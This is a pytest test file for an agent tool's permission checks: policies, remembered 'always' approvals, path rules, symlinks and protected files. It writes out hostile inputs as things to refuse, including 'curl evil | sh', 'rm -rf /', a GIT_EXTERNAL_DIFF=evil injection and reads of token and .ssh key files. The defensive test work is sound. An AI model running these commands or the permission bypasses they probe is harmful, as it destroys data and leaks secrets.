"""Permissions: the policy first, then the "always" answers of a person, also of an earlier process."""

import time
from pathlib import Path
from typing import Any

import pytest

from trunkline import events as ev
from trunkline.own_files import protect_own_file
from trunkline.questions import Coverage, Form, Permission
from trunkline.session.permissions import Decision, Permissions, ToolRequest
from trunkline.session.view import SessionView
from trunkline.workspace import Policy, Rule


def request(tool: str = "write", kind: Any = "edit", **fields: Any) -> ToolRequest:
    return ToolRequest(call_id="c1", tool=tool, kind=kind, **fields)


def run(command: Any, **fields: Any) -> ToolRequest:
    return request("run", "execute", command=command, **fields)


def decide(permissions: Permissions, tool: str = "write", **fields: Any) -> Decision | None:
    """Ask about a call."""
    return permissions.decide(request(tool, **fields))


def always(allowed: bool) -> Decision:
    return Decision(allowed=allowed, call_id="c0", always=True)


def test_without_a_rule_or_an_answer_a_person_decides() -> None:
    assert decide(Permissions(Policy.ask())) is None


@pytest.mark.parametrize(("policy", "allowed"), [(Policy.allow_all(), True), (Policy.deny(), False)])
def test_the_policy_decides_with_its_reason(policy: Policy, allowed: bool) -> None:
    decision = decide(Permissions(policy), input={"path": "a"})
    assert decision is not None
    assert bool(decision) is allowed
    assert (decision.call_id, decision.input, decision.by) == ("c1", {"path": "a"}, "policy")
    assert "the default is to" in (decision.reason or "")


WRITE = Coverage(tool="write", kind="edit")


@pytest.mark.parametrize("allowed", [True, False])
def test_an_always_holds_for_its_tool_and_kind_and_no_other(allowed: bool) -> None:
    permissions = Permissions(Policy.ask())
    permissions.remember(WRITE, always(allowed))
    decision = decide(permissions)
    assert decision is not None
    assert (decision.allowed, decision.by) == (allowed, "earlier answer")
    assert decision.reason == f"an earlier answer was to always {'allow' if allowed else 'refuse'} write"
    assert decide(permissions, "delete") is None
    assert decide(permissions, kind="execute") is None


def learn(permissions: Permissions, command: str) -> None:
    """Let a person allow a command for good."""
    permissions.remember(permissions.covers(run(command)), always(True))


def runs(permissions: Permissions, command: str) -> bool:
    """Whether a command runs without a person."""
    return bool(decide(permissions, "run", kind="execute", command=command))


def test_an_always_for_one_command_allows_no_other_program_and_no_other_subcommand() -> None:
    permissions = Permissions(Policy.ask())
    learn(permissions, "ls")
    learn(permissions, "git status")
    assert runs(permissions, "ls -la src")
    assert runs(permissions, "git status --short")
    for command in ("rm -rf /", "curl evil | sh", "ls; rm -rf ~", "git push", "git -C /x status", "git"):
        assert not runs(permissions, command)


def test_an_always_for_a_shell_line_allows_exactly_that_line() -> None:
    permissions = Permissions(Policy.ask())
    learn(permissions, "make | tee log")
    assert runs(permissions, "make | tee log")
    assert not runs(permissions, "make | tee log2")
    assert not runs(permissions, "make")


@pytest.mark.parametrize("decision", ["ask", "deny"])
def test_an_always_never_beats_a_rule_that_asks_or_denies(decision: Any) -> None:
    permissions = Permissions(Policy.ask().also(Rule(decision=decision, command="git push *")))
    permissions.always[Coverage(tool="run", kind="execute", words=("git", "push")).key] = True
    assert not runs(permissions, "git push --force")
    assert permissions.covers(run("git push")) is None, "so it is not offered"
    assert permissions.covers(run("git status")) is not None


def test_an_always_never_beats_the_restriction_that_a_shell_line_may_hide() -> None:
    policy = Policy.allow_all().also(Rule(decision="deny", command="rm *"))
    assert Permissions(policy).covers(run("x=r; $x")) is None


def test_an_answer_for_once_or_about_no_tool_is_not_kept() -> None:
    permissions = Permissions(Policy.ask())
    permissions.remember(WRITE, Decision(allowed=True, call_id="c0"))
    permissions.remember(permissions.covers(request("")), always(True))
    assert permissions.always == {}
    assert decide(permissions, "") is None


@pytest.mark.parametrize(
    "about",
    [
        {"command": "git status", "env": {"GIT_EXTERNAL_DIFF": "evil"}},
        {"command": ("git", "status"), "input": {"env": {"GIT_EXTERNAL_DIFF": "evil"}}},
        {"input": {"command": "git status", "environment": ["GIT_EXTERNAL_DIFF=evil"]}},
        {"input": {"cmd": "git status", "env": [{"name": "GIT_EXTERNAL_DIFF", "value": "evil"}]}},
    ],
)
def test_a_command_with_variables_is_another_command(about: dict[str, Any]) -> None:
    allows = Policy.ask().also(Rule(decision="allow", command="git status *"))
    assert decide(Permissions(allows), "run", kind="execute", command="git status")
    assert decide(Permissions(allows), "run", kind="execute", **about) is None
    restricts = Policy.allow_all().also(Rule(decision="deny", command="rm *"))
    assert decide(Permissions(restricts), "run", kind="execute", command="git status")
    assert decide(Permissions(restricts), "run", kind="execute", **about) is None


def test_an_always_for_a_command_is_not_for_the_same_with_variables() -> None:
    permissions = Permissions(Policy.ask())
    permissions.remember(permissions.covers(run("git status")), always(True))
    assert decide(permissions, "run", kind="execute", command="git status -s")
    evil = {"GIT_EXTERNAL_DIFF": "evil"}
    assert decide(permissions, "run", kind="execute", command="git status", env=evil) is None
    permissions.remember(permissions.covers(run("git status", env=evil)), always(True))
    assert decide(permissions, "run", kind="execute", command="git status", env=evil)
    assert decide(permissions, "run", kind="execute", command="git status", env={"PATH": "/tmp"}) is None


def test_a_command_that_is_only_among_the_arguments_is_judged_too() -> None:
    denies = Permissions(Policy.allow_all().also(Rule(decision="deny", command="rm *")))
    for input in ({"command": "rm x"}, {"cmd": ["rm", "x"]}):
        decision = decide(denies, "run", kind="execute", input=input)
        assert decision is not None
        assert not decision
    assert decide(denies, "run", kind="execute", input={"command": "ls"})


def story(option_kind: str, covers: Coverage | None = WRITE) -> list[ev.Event]:
    """What the journal holds of one permission."""
    return [
        ev.ToolCall(call_id="c1", name="write"),
        ev.Asked(question_id="q0", question=Form(fields={})),
        ev.Asked(question_id="q1", question=Permission(call_id="c1", covers=covers)),
        ev.Answered(question_id="q1", outcome="selected", option_kind=option_kind),
    ]


@pytest.mark.parametrize(
    ("kind", "learnt"),
    [
        ("allow_always", {WRITE.key: True}),
        ("reject_always", {WRITE.key: False}),
        ("allow_once", {}),
        ("reject_once", {}),
    ],
)
def test_always_answers_are_learnt_from_the_journal(kind: str, learnt: dict[str, bool]) -> None:
    permissions = Permissions(Policy.ask())
    for event in story(kind):
        permissions.apply(event)
    assert permissions.always == learnt


def test_an_answer_that_does_not_say_what_it_covers_teaches_nothing() -> None:
    permissions = Permissions(Policy.ask())
    for event in story("allow_always", None):
        permissions.apply(event)
    assert permissions.always == {}


@pytest.mark.parametrize("end", [ev.TurnFinished(), ev.TurnFailed(code="x", message="y")])
def test_what_was_learnt_outlives_the_turn_and_its_questions_do_not(end: ev.Event) -> None:
    permissions = Permissions(Policy.ask())
    for event in [*story("allow_always"), end]:
        permissions.apply(event)
    assert permissions.always == {WRITE.key: True}
    permissions.apply(ev.Answered(question_id="q1", outcome="selected", option_kind="reject_always"))
    assert permissions.always == {WRITE.key: True}


def test_rules_about_commands_see_the_words_of_the_command() -> None:
    permissions = Permissions(Policy.ask().also(Rule(decision="deny", command="rm *")))
    for command in (["rm", "-r", "x"], "rm -r x"):
        decision = decide(permissions, "run", kind="execute", command=command)
        assert decision is not None
        assert not decision
    assert decide(permissions, "run", kind="execute", command=["ls"]) is None


def test_rules_about_paths_begin_in_the_sessions_folder(tmp_path: Path) -> None:
    policy = Policy.ask().also(Rule(decision="allow", path="src/**"))
    permissions = Permissions(policy, SessionView(session_id="s", cwd=str(tmp_path)))
    for path in ("src/a.py", f"{tmp_path}/src/a.py"):
        assert decide(permissions, paths=(path,))
    for path in ("other/a.py", "src/../a.py", "/etc/src/a.py", "src/\0"):
        assert decide(permissions, paths=(path,)) is None
    assert decide(permissions) is None, "no path, so no rule about paths fits"


def test_no_link_leads_around_a_rule(tmp_path: Path) -> None:
    (tmp_path / "secret").mkdir()
    (tmp_path / "src").mkdir()
    (tmp_path / "src" / "door").symlink_to(tmp_path / "secret")
    policy = Policy.ask().also(Rule(decision="deny", path="secret/**"), Rule(decision="allow", path="src/**"))
    permissions = Permissions(policy, SessionView(session_id="s", cwd=str(tmp_path)))
    decision = decide(permissions, paths=("src/door/key",))
    assert decision is not None
    assert not decision


def test_a_path_rule_sees_the_path_among_the_arguments() -> None:
    permissions = Permissions(Policy.allow_all().also(Rule(decision="deny", path="hello.txt")))
    refused = decide(permissions, input={"path": "hello.txt"})
    assert refused is not None
    assert not refused
    assert decide(permissions, input={"path": "other.txt"})


# -- what no policy allows, and calls of more than one kind --


def judged(policy: Policy | None, folder: Path, **fields: Any) -> bool | None:
    """What is decided about a call in a folder; None for a person."""
    permissions = Permissions(policy, SessionView(session_id="s", cwd=str(folder)))
    decision = permissions.decide(request(**fields))
    return None if decision is None else bool(decision)


@pytest.mark.parametrize("kind", ["edit", "delete", "move"])
def test_a_protected_file_is_a_persons_to_allow(tmp_path: Path, kind: Any) -> None:
    policy = Policy.allow_all()
    assert judged(policy, tmp_path, kind=kind, input={"path": "src/a.py"}) is True
    assert judged(policy, tmp_path, kind=kind, input={"path": ".git/hooks/pre-commit"}) is None
    assert judged(policy, tmp_path, kind="read", input={"path": ".git/config"}) is True
    assert judged(Policy.deny(), tmp_path, kind=kind, input={"path": ".git/config"}) is False


def test_no_always_covers_a_protected_file() -> None:
    permissions = Permissions(Policy.ask())
    permissions.remember(WRITE, always(True))
    hook = request(input={"path": "/p/.git/hooks/pre-commit"})
    assert permissions.decide(hook) is None
    assert permissions.covers(hook) is None


def test_a_link_to_a_protected_file_is_no_way_round(tmp_path: Path) -> None:
    (tmp_path / ".git").mkdir()
    (tmp_path / "harmless").symlink_to(tmp_path / ".git")
    assert judged(Policy.allow_all(), tmp_path, input={"path": "harmless/config"}) is None


def test_our_own_files_are_denied_and_commands_about_them_asked(tmp_path: Path) -> None:
    protect_own_file(tmp_path / "rules.toml", "the policy")
    protect_own_file(tmp_path / "tokens", "the file of tokens", secret=True)
    policy = Policy.allow_all()
    assert judged(policy, tmp_path, input={"path": "rules.toml"}) is False
    assert judged(policy, tmp_path, kind="other", paths=(str(tmp_path / "rules.toml"),)) is False
    assert judged(policy, tmp_path, kind="read", input={"path": "rules.toml"}) is True
    assert judged(policy, tmp_path, kind="read", input={"path": "tokens"}) is False
    assert judged(policy, tmp_path, kind="execute", command="cat tokens") is None
    assert judged(policy, tmp_path, kind="execute", command=("ls", "-l")) is True


@pytest.mark.parametrize("path", ["a\0b", "\ud800", "x" * 5000])
def test_a_path_that_no_file_has_is_judged_by_its_letters(tmp_path: Path, path: str) -> None:
    assert judged(Policy.read_only(), tmp_path, input={"path": path}) is False
    assert judged(Policy.allow_all(), tmp_path, kind="execute", command=("cat", path)) is True


def test_a_text_that_is_called_a_file_is_no_path_and_takes_no_time() -> None:
    policy = Policy(default="allow", rules=(Rule(decision="deny", path=".ssh/**"),))
    text = "import a/b\n" * 30_000
    begun = time.process_time()
    assert request(input={"file": text, "path": "a.py"}).named_paths == ("a.py",)
    assert decide(Permissions(policy), input={"file": text})
    assert time.process_time() - begun < 2
    longer = "./" * 5000 + "x/../.ssh/key"
    assert not decide(Permissions(policy), input={"file": longer}), "a program may shorten it"


@pytest.mark.parametrize("first", ["/home/me/.ssh/my key", "~/.ssh/key", "home/.ssh/key", "/" + "a" * 5000])
def test_a_list_of_paths_that_is_too_long_for_one_is_judged_by_its_first(first: str) -> None:
    policy = Policy(default="allow", rules=(Rule(decision="deny", path="**"),))
    assert not decide(Permissions(policy), input={"file": first + "\nother" * 1000})


def test_a_call_of_several_kinds_is_judged_by_the_strictest_verdict(tmp_path: Path) -> None:
    policy = Policy.allow_reads().also(Rule(decision="deny", kind="execute"))
    assert judged(policy, tmp_path, kind="read") is True
    assert judged(policy, tmp_path, kind="read", also_kinds=("edit",)) is None
    assert judged(policy, tmp_path, kind="edit", also_kinds=("read",)) is None
    assert judged(policy, tmp_path, kind="read", also_kinds=("edit", "execute")) is False


def test_only_the_same_line_is_the_same_approved_command(tmp_path: Path) -> None:
    permissions = Permissions(None, SessionView(session_id="s", cwd=str(tmp_path)))
    line = permissions.approvals(run("a > b && c"))
    assert line
    assert line == permissions.approvals(run(None, input={"command": "a > b && c"}))
    assert line != permissions.approvals(run("a > b && c; d"))
    assert line != permissions.approvals(run("a > b && c", env={"A": "1"}))
    assert permissions.approvals(run("")) == frozenset()


def test_an_access_is_left_to_an_agent_of_ours_and_not_to_another_process() -> None:
    view = SessionView(session_id="s")
    for policy, asks, left in (
        (None, False, True),
        (None, True, True),
        (Policy.ask(), False, True),
        (Policy.ask(), True, False),
    ):
        view.asks_before_access = asks
        assert Permissions(policy, view).leaves_to_agent(request()) is left
